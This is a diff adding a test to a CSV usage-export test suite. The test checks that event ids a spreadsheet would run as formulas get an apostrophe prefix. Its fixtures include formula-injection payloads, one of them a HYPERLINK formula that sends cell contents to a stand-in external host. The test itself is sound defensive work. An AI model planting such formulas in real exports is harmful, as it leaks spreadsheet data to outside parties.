@@ -244,6 +244,36 @@ describe('usage and invoice exports', () => {
       expect(rows.filter((row) => row.model === ODD_MODEL)).toHaveLength(Math.ceil(eventIds.length / 3));
     });
 
+    it('prefixes an apostrophe to event ids a spreadsheet would run as formulas, and to nothing else', async () => {
+      const other = await Workspace.create(stack);
+      await stack.grant(other.accountId, '1.00');
+      const tag = randomUUID().slice(0, 8);
+      const ids = [
+        `=HYPERLINK("https://x.example/?"&A1)-${tag}`,
+        `+1+1-${tag}`,
+        `-1-${tag}`,
+        `@SUM(A1)-${tag}`,
+        `ok-=-${tag}`,
+      ];
+      const events = ids.map((id) => ({
+        id,
+        account_id: other.accountId,
+        model: MODEL,
+        prompt_tokens: 100,
+        completion_tokens: 10,
+      }));
+      expect((await stack.gateway.post('/v1/usage/events', { events })).status).toBe(202);
+      await stack.drained();
+
+      const key = (await other.createKey({ role: 'owner' })).key;
+      const rows = await parseCsv((await getCsv(key, `${other.path}/usage.csv?${range()}`)).text);
+      expect(rows.map((row) => row.event_id).sort()).toEqual(
+        [...ids.slice(0, 4).map((id) => `'${id}`), ids[4]].sort(),
+      );
+      // Only the client's text: the cost and the other columns print as stored.
+      for (const row of rows) expect(row.cost_usd).toMatch(/^\d+\.\d{6}$/);
+    });
+
     it('holds exactly the events with from <= occurred_at < to', async () => {
       const all = await parseCsv((await getCsv(ownerKey, `${ws.path}/usage.csv?${range()}`)).text);
       const from = all[100].occurred_at;
